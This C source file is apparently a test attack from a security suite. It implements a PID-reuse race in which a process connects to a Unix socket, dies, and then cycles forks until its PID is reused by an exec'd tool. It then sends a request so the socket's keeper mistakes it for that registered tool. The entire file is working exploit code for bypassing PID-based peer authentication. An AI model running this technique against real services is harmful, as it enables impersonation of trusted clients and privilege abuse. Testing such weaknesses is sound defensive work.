/* A pid is a number: P connects and dies, forks are spent until the kernel gives P's number out again, that
 * process becomes the registered tool, and the keeper of the socket asks.   pid_reuse SOCKET REQUEST TOOL
 * Exit code 78: the number did not come round within the bound.
 */
#include "attack.h"

static int gone(void *unused)
{
	(void)unused;
	_exit(0);
}

int main(int argc, char **argv)
{
	static char stack[1 << 16] __attribute__((aligned(16)));
	int hold[2];
	int sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (argc != 4 || pipe2(hold, O_CLOEXEC) != 0)
		return 2;
	pid_t p = fork();
	if (p == 0) {
		dial_on(sock, argv[1]);
		_exit(0);
	}
	waitpid(p, NULL, 0);
	for (int spent = 0; spent < 200000; spent++) {
		/* one below our number: the next fork gets it, unless someone else was faster */
		pid_t other = clone(gone, stack + sizeof stack, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
		waitpid(other, NULL, 0);
		if (other > p || other < p - 8)
			continue;
		pid_t again = fork();
		if (again == 0) {
			char *args[] = {argv[3], NULL};
			if (getpid() != p)
				_exit(0);
			dup2(hold[0], 0);
			execv(argv[3], args);
			die("exec");
		}
		if (again == p) {
			usleep(20000);
			tell(sock, argv[2]);
			hear(sock, 1);
			kill(again, SIGKILL);
			waitpid(again, NULL, 0);
			return 0;
		}
		waitpid(again, NULL, 0);
	}
	return 78;
}
